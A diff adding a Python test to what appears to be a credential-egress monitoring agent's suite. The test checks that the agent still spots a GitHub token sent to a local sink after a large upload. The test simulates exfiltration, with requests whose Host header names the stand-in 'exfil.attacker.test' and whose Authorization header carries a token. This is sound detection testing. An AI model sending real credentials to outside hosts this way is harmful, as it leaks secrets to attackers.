@@ -157,3 +157,33 @@ def test_loopback_is_not_watched_by_default():
         agent.stop()
         sink.close()
     assert not egress(agent.lines, sink.port), agent.lines
+
+
+def test_budget_keeps_catching_headers_after_a_bulk_body():
+    """Past the payload budget only the head of each write is copied: a request that starts a
+    write after a large upload on the same connection is still seen."""
+    require_root()
+    sink = Sink()
+    agent = Agent("--include-loopback", "--payload-budget", "64K")
+    token = github_token()
+    try:
+        s = socket.create_connection(("127.0.0.1", sink.port))
+        body = b"x" * (200 << 10)
+        s.sendall(b"POST /upload HTTP/1.1\r\nHost: exfil.attacker.test\r\nContent-Length: %d\r\n\r\n"
+                  % len(body))
+        for i in range(0, len(body), 16384):
+            s.sendall(body[i:i + 16384])
+        s.recv(4096)
+        s.sendall(("GET /next HTTP/1.1\r\nHost: exfil.attacker.test\r\nAuthorization: token %s"
+                   "\r\n\r\n" % token).encode())
+        s.recv(4096)
+        s.close()
+        hits = agent.wait_for(lambda l: l.get("destination", {}).get("port") == sink.port)
+    finally:
+        agent.stop()
+        sink.close()
+    assert len(hits) == 1, agent.stderr()
+    assert hits[0]["credential"]["fingerprint"] == agent.key.fingerprint(token)
+    # the bulk body was not copied whole: the agent saw far less than was sent
+    sent = int(agent.stderr().split(" bytes sent")[0].split()[-1])
+    assert sent < 100 << 10, sent
